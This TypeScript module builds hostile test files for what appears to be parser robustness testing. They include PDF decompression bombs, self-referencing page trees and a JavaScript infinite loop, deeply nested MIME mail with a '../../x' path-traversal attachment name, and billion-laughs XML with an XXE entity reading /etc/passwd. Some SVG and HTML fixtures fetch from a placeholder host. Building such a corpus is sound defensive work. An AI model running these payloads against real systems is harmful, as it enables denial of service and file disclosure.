import { deflateSync } from 'node:zlib'

/** A file made to harm its reader. */
export interface HostileFile {
  readonly name: string
  readonly make: () => Uint8Array
  /** Whether reading it takes so long that only a deep run does it. */
  readonly isLong?: true
}

const text = (name: string, make: () => string): HostileFile => ({ name, make: () => Buffer.from(make()) })
const DEEP = 100_000

/**
 * A PDF of these objects, numbered from 1, the first of them its catalogue; without a cross-reference table, so that
 * a reader has to search.
 */
export function pdfOf(objects: readonly (string | Uint8Array)[], trailer = ''): Uint8Array {
  const body = objects.flatMap((object, at) => [
    Buffer.from(`${at + 1} 0 obj\n`),
    Buffer.from(object),
    Buffer.from('\nendobj\n'),
  ])
  const end = `trailer<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\n%%EOF\n`
  return Buffer.concat([Buffer.from('%PDF-1.7\n'), ...body, Buffer.from(end)])
}

const CATALOGUE = '<</Type/Catalog/Pages 2 0 R>>'

/** A PDF of one page with this content and these additional entries in its dictionary. */
function pageOf(content: string | Uint8Array, page = '/MediaBox[0 0 100 100]', filter = ''): Uint8Array {
  const bytes = Buffer.from(content)
  return pdfOf([
    CATALOGUE,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R${page}/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>`,
    Buffer.concat([
      Buffer.from(`<</Length ${bytes.length}${filter}>>stream\n`),
      bytes,
      Buffer.from('\nendstream'),
    ]),
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
  ])
}

/** Data that deflates to a thousandth of its size, deflated this many times. */
function layered(times: number, sizeBytes: number): Uint8Array {
  let bytes: Uint8Array = Buffer.alloc(sizeBytes, 'BT /F 9 Tf (x) Tj ET\n')
  for (let layer = 0; layer < times; layer++) bytes = deflateSync(bytes, { level: 9 })
  return bytes
}

const pdfs: readonly HostileFile[] = [
  {
    name: 'pages-that-are-their-own-children.pdf',
    make: () => pdfOf([CATALOGUE, '<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2000000000>>']),
  },
  {
    name: 'a-hundred-thousand-pages.pdf',
    make: () =>
      pdfOf([
        CATALOGUE,
        `<</Type/Pages/Count 100000/Kids[${'3 0 R '.repeat(100_000)}]>>`,
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>',
      ]),
  },
  { name: 'huge-page.pdf', make: () => pageOf('0 0 9 9 re f', '/MediaBox[0 0 1e9 1e9]/UserUnit 75000') },
  { name: 'thin-page.pdf', make: () => pageOf('0 0 9 9 re f', '/MediaBox[0 0 0.0001 1e9]') },
  { name: 'page-turned-round.pdf', make: () => pageOf('', '/MediaBox[9 9 -9 -9]/Rotate 2147483647') },
  { name: 'deep-arrays.pdf', make: () => pageOf('', `/Deep${'['.repeat(DEEP)}${']'.repeat(DEEP)}`) },
  { name: 'deep-dictionaries.pdf', make: () => pageOf('', `/D${'<</D'.repeat(DEEP)}${'>>'.repeat(DEEP)}`) },
  { name: 'deep-parentheses.pdf', make: () => pageOf(`BT /F 9 Tf ${'('.repeat(DEEP)}`) },
  { name: 'open-states.pdf', make: () => pageOf('q '.repeat(2_000_000)) },
  { name: 'packed-twice.pdf', make: () => pageOf(layered(2, 60_000_000), undefined, '/Filter[/Fl/Fl]') },
  {
    name: 'bomb.pdf',
    make: () => pageOf(layered(1, 300_000_000), '/MediaBox[0 0 9 9]', '/Filter/FlateDecode'),
  },
  {
    name: 'many-filters.pdf',
    make: () => pageOf('x', undefined, `/Filter[${'/ASCIIHexDecode '.repeat(50_000)}]`),
  },
  {
    name: 'form-in-itself.pdf',
    make: () =>
      pdfOf([
        CATALOGUE,
        '<</Type/Pages/Kids[3 0 R]/Count 1>>',
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>',
        '<</Length 5>>stream\n/X Do\nendstream',
        '<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>/Length 11>>stream\n/X Do /X Do\nendstream',
      ]),
  },
  {
    name: 'forms-that-double.pdf',
    make: () => {
      const form = (at: number) =>
        `<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X ${at + 1} 0 R>>>>/Length 29>>stream\n${'/X Do '.repeat(10)}\nendstream`
      return pdfOf([
        CATALOGUE,
        '<</Type/Pages/Kids[3 0 R]/Count 1>>',
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>',
        '<</Length 5>>stream\n/X Do\nendstream',
        ...Array.from({ length: 20 }, (_, at) => form(at + 5)),
        '<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Length 12>>stream\n0 0 9 9 re f\nendstream',
      ])
    },
  },
  {
    name: 'image-of-a-terapixel.pdf',
    make: () =>
      pdfOf([
        CATALOGUE,
        '<</Type/Pages/Kids[3 0 R]/Count 1>>',
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>',
        '<</Length 15>>stream\n9 0 0 9 0 0 cm /X Do\nendstream',
        '<</Type/XObject/Subtype/Image/Width 1000000/Height 1000000/BitsPerComponent 8/ColorSpace/DeviceRGB/Length 3>>stream\nabc\nendstream',
      ]),
  },
  {
    name: 'table-in-a-circle.pdf',
    make: () =>
      Buffer.from(
        `%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\nxref\n0 1\n0000000000 65535 f \ntrailer<</Size 2147483647/Root 1 0 R/Prev 41>>\nstartxref\n41\n%%EOF`,
      ),
  },
  {
    name: 'object-stream-in-itself.pdf',
    make: () =>
      pdfOf(['<</Type/ObjStm/N 2147483647/First 99999999/Extends 1 0 R/Length 4>>stream\n1 0 \nendstream']),
  },
  { name: 'script.pdf', make: () => pdfOf([`<</OpenAction<</S/JavaScript/JS(while(1);)>>>>`]) },
  { name: 'head-only.pdf', make: () => Buffer.from('%PDF-') },
]

const mimeNest = (depth: number): string => {
  const open = Array.from(
    { length: depth },
    (_, at) => `Content-Type: multipart/mixed; boundary="b${at}"\n\n--b${at}\n`,
  )
  return `From: a@b\nSubject: deep\nMIME-Version: 1.0\n${open.join('')}Content-Type: text/plain\n\nwords\n`
}

const mails: readonly HostileFile[] = [
  text('deep.eml', () => mimeNest(20_000)),
  text('mail-in-mail.eml', () => 'From: a@b\nSubject: s\nContent-Type: message/rfc822\n\n'.repeat(20_000)),
  text(
    'many-parts.eml',
    () =>
      `From: a@b\nSubject: s\nContent-Type: multipart/mixed; boundary=x\n\n${'--x\nContent-Type: text/plain\n\na\n'.repeat(200_000)}--x--`,
  ),
  text(
    'many-attachments.eml',
    () =>
      `From: a@b\nSubject: s\nContent-Type: multipart/mixed; boundary=x\n\n${'--x\nContent-Type: application/zip\nContent-Disposition: attachment; filename="../../x"\nContent-Transfer-Encoding: base64\n\nUEsDBA==\n'.repeat(50_000)}--x--`,
  ),
  text(
    'tiny-parts.eml',
    () => `Subject: s\nContent-Type: multipart/mixed; boundary=x\n\n${'--x\n'.repeat(3_000_000)}`,
  ),
  text(
    'many-pages.eml',
    () =>
      `Subject: s\nContent-Type: multipart/alternative; boundary=x\n\n${'--x\nContent-Type: text/html\n\n<p>a\n'.repeat(300_000)}`,
  ),
  text(
    'open-comments.eml',
    () => `From: ${'('.repeat(1_000_000)}\nContent-Type: ${'('.repeat(500_000)}\n\nwords`,
  ),
  text('open-words.eml', () => `Subject: ${'=?a?q?'.repeat(2_000_000)}\n\nwords`),
  {
    ...text('open-files.eml', () => `Subject: s\n\n${'begin 644 a\n'.repeat(1_200_000)}`),
    isLong: true,
  },
  text(
    'open-boundary.eml',
    () => `Content-Type: multipart/mixed\nSubject: s\n\n\n--${' \t'.repeat(3_000_000)}\nwords`,
  ),
  text('mailbox.mbox', () => 'From a@b x\nFrom: a@b\nSubject: s\n\nword\n\n'.repeat(300_000)),
  text('long-header.eml', () => `From: a@b\nSubject: ${'x'.repeat(8_000_000)}\n\nwords`),
  text('many-headers.eml', () => `From: a@b\n${'X-A: b\n'.repeat(500_000)}Subject: s\n\nwords`),
  text('folded-header.eml', () => `From: a@b\nSubject: a\n${' \n\t'.repeat(1_000_000)}\n\nwords`),
  text('many-people.eml', () => `From: a@b\nTo: ${'a <b@c>, '.repeat(100_000)}\nSubject: s\n\nwords`),
  text('people-in-groups.eml', () => `From: a@b\nTo: ${'g:'.repeat(200_000)};\nSubject: s\n\nwords`),
  text('open-quotes.eml', () => `From: ${'"<('.repeat(200_000)}\nSubject: s\n\nwords`),
  text('words-in-code.eml', () => `From: a@b\nSubject: ${'=?utf-8?q?=41?= '.repeat(100_000)}\n\nwords`),
  text('parameters.eml', () => {
    const pieces = Array.from({ length: 50_000 }, (_, at) => `;\n name*${at}*=utf-8''%41`)
    return `From: a@b\nSubject: s\nContent-Type: text/plain${pieces.join('')}\n\nwords`
  }),
  {
    ...text(
      'html.eml',
      () =>
        `From: a@b\nSubject: s\nContent-Type: text/html\n\n<script src=http://192.0.2.1/x></script><img src=http://192.0.2.1/p><form action=http://192.0.2.1><meta http-equiv=refresh content="0;http://192.0.2.1">${'<div>'.repeat(DEEP)}words`,
    ),
    isLong: true,
  },
]

const svg = (inside: string) => `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`

const laughs = (depth: number): string =>
  [
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">',
    ...Array.from({ length: depth }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`),
    `<!ENTITY out SYSTEM "file:///etc/passwd"><!ENTITY % far SYSTEM "http://192.0.2.1/x.dtd">%far;]>`,
  ].join('\n')

/** XML around this element, whose entities expand a thousand million times, with one that would read a file. */
export const laughing = (open: string, close: string): string => `${laughs(9)}${open}&a9;&out;words${close}`

const pages: readonly HostileFile[] = [
  text('deep.html', () => `<html>${'<div>'.repeat(DEEP)}words`),
  text('deep-inline.html', () => `<html>${'<b><i>'.repeat(DEEP)}words`),
  text('deep-tables.html', () => `<html>${'<table><tr><td>'.repeat(30_000)}words`),
  text(
    'attributes.html',
    () => `<html><p ${Array.from({ length: DEEP }, (_, n) => `a${n}=1`).join(' ')}>words`,
  ),
  text('long-attribute.html', () => `<html><p class="${'a '.repeat(2_000_000)}">words`),
  text('open-tags.html', () => `<html>${'<'.repeat(4_000_000)}`),
  text('open-comments.html', () => `<html>${'<!--'.repeat(1_000_000)}`),
  text('entities.html', () => `<html>${'&#x10ffff;&#55296;&lt'.repeat(300_000)}`),
  text('unclosed-script.html', () => `<html><p>words</p><script>${'<!--<script>'.repeat(300_000)}`),
  text('many-nodes.html', () => `<html>${'<p>a'.repeat(1_400_000)}`),
  text('templates.html', () => `<html>${'<template>'.repeat(DEEP)}words`),
  text('laughs.xhtml', () => laughing('<html xmlns="http://www.w3.org/1999/xhtml"><p>', '</p></html>')),
  text('laughs.svg', () => laughing('<svg xmlns="http://www.w3.org/2000/svg"><text>', '</text></svg>')),
  text('laughs.xml', () => laughing('<x>', '</x>')),
  text('script.svg', () =>
    svg('<script>fetch("http://192.0.2.1")</script><image href="http://192.0.2.1/x"/><use href="#a"/>'),
  ),
  text('uses.svg', () =>
    svg(
      Array.from(
        { length: 30 },
        (_, n) => `<g id="g${n}"><use href="#g${n - 1}"/><use href="#g${n - 1}"/></g>`,
      ).join(''),
    ),
  ),
  text('deep.json', () => '['.repeat(5_000_000)),
  text('deep.rtf', () => `{\\rtf1 ${'{'.repeat(2_000_000)}words`),
  text('closed.rtf', () => `{\\rtf1 ${'}'.repeat(2_000_000)}words`),
  text('binary.rtf', () => `{\\rtf1 \\bin2147483647 words \\bin-9999999999 more\\par}`),
  text('skips.rtf', () => `{\\rtf1 ${'\\uc999999999\\u65533 '.repeat(200_000)}words}`),
  text('bytes.rtf', () => `{\\rtf1\\ansicpg932 ${"\\'81".repeat(4_000_000)}}`),
  text('fonts.rtf', () => `{\\rtf1{\\fonttbl${'{\\f1\\fcharset178 a;}'.repeat(300_000)}}words}`),
  text('high-bytes.rtf', () => `{\\rtf1 ${'é'.repeat(5_000_000)}}`),
  text('arrows.srt', () => '-->\n'.repeat(1_000_000)),
  text('arrows.vtt', () => `WEBVTT\n\n${'00:00.000 --> 00:01.000\n<v '.repeat(200_000)}`),
  text('voices.vtt', () => `WEBVTT\n\n00:00.000 --> 00:01.000\n${'<v a>b'.repeat(500_000)}`),
  text('times.srt', () => `1\n${'9'.repeat(2_000_000)}:00:00,000 --> 00:00:01,000\nwords\n`),
  text(
    'columns.ass',
    () =>
      `[Script Info]\n[Events]\nFormat: ${'a,'.repeat(500_000)}text\nDialogue: ${'0,'.repeat(500_000)}words`,
  ),
  text(
    'fields.ass',
    () =>
      `[Script Info]\n[Events]\n${`Dialogue: 0,0:00:00.00,0:00:01.00,,,,,,,${'{'.repeat(400)}\n`.repeat(20_000)}`,
  ),
  text('one-line.txt', () => 'a'.repeat(30_000_000)),
  text('blank-lines.txt', () => '\n'.repeat(24_000_000)),
  text('blanks.txt', () => ' '.repeat(24_000_000)),
  text('marks.txt', () => `a${'\u0301'.repeat(8_000_000)}`),
  text('bidi.txt', () => '\u202e\u2066'.repeat(2_000_000)),
  text('not-a-mail.txt', () => 'From: a\n'.repeat(8_000)),
  text('xml-start.txt', () => `<?xml ${'<'.repeat(60_000)}`),
  text('commas.csv', () => '"'.repeat(10_000_000)),
]

/** Documents that are some form of text. */
export const documents: readonly HostileFile[] = [...pdfs, ...mails, ...pages]
